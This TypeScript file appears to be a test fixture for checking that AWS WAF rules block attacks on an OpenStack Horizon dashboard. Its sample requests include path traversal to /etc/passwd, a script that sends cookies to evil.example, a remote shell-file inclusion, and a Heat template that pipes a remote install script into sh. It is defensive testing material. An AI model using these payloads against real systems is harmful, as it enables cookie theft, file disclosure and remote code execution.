import * as path from 'node:path';

/** A request, as a browser sends it. */
export interface BrowserRequest {
  readonly name: string;
  readonly method: string;
  /** With the query. */
  readonly path: string;
  readonly headers: Record<string, string>;
  readonly body?: string;
}

/** An attack, and the rule of AWS that blocks it. */
export interface Attack extends BrowserRequest {
  readonly blockedBy: string;
}

/** Headers that are recorded: the others are the same for all requests, or secret. */
export const HEADERS = ['accept', 'content-type', 'x-requested-with', 'x-csrftoken'];

/** What `record.ts` wrote. */
export const RECORDED = path.join(__dirname, 'recorded.json');

/** What is recorded cannot have these: Debian's Horizon has no Heat. */
export const HEAT: BrowserRequest = {
  name: 'launch a stack of Heat',
  method: 'POST',
  path: '/project/stacks/select_template',
  headers: {
    accept: 'text/html',
    'content-type': 'application/x-www-form-urlencoded',
  },
  // https://opendev.org/openstack/heat-dashboard/src/branch/master/heat_dashboard/content/stacks/forms.py
  body: new URLSearchParams({
    template_source: 'raw',
    template_data: `heat_template_version: 2021-04-16
resources:
  server:
    type: OS::Nova::Server
    properties:
      user_data_format: RAW
      user_data:
        str_replace:
          template: |
            #!/bin/bash
            curl -s http://169.254.169.254/latest/meta-data/local-ipv4 > /etc/address
            wget -qO- https://example.org/install.sh | sh
          params: {}
`,
    environment_source: 'raw',
    environment_data: '',
  }).toString(),
};

const XSS = '<script>document.location="https://evil.example/"+document.cookie</script>';

export const ATTACKS: readonly Attack[] = [
  attack('path traversal in the path', 'GenericLFI_URIPATH', '/static/..%2f..%2f..%2fetc/passwd'),
  attack(
    'path traversal in the query',
    'GenericLFI_QUERYARGUMENTS',
    '/project/?file=../../../../etc/passwd',
  ),
  attack(
    'a script in the query',
    'CrossSiteScripting_QUERYARGUMENTS',
    `/project/?q=${encodeURIComponent(XSS)}`,
  ),
  attack('a script in a cookie', 'CrossSiteScripting_COOKIE', '/', { cookie: `theme=${XSS}` }),
  attack(
    'a file of another server in the query',
    'GenericRFI_QUERYARGUMENTS',
    '/project/?page=http://203.0.113.7/shell.txt?',
  ),
  attack('a scanner', 'UserAgent_BadBots_HEADER', '/', { 'user-agent': 'Mozilla/5.00 (Nessus)' }),
  { ...attack('a method of WebDAV', 'PROPFIND_METHOD', '/'), method: 'PROPFIND' },
];

function attack(
  name: string,
  blockedBy: string,
  target: string,
  headers: Record<string, string> = {},
): Attack {
  return { name, blockedBy, method: 'GET', path: target, headers };
}
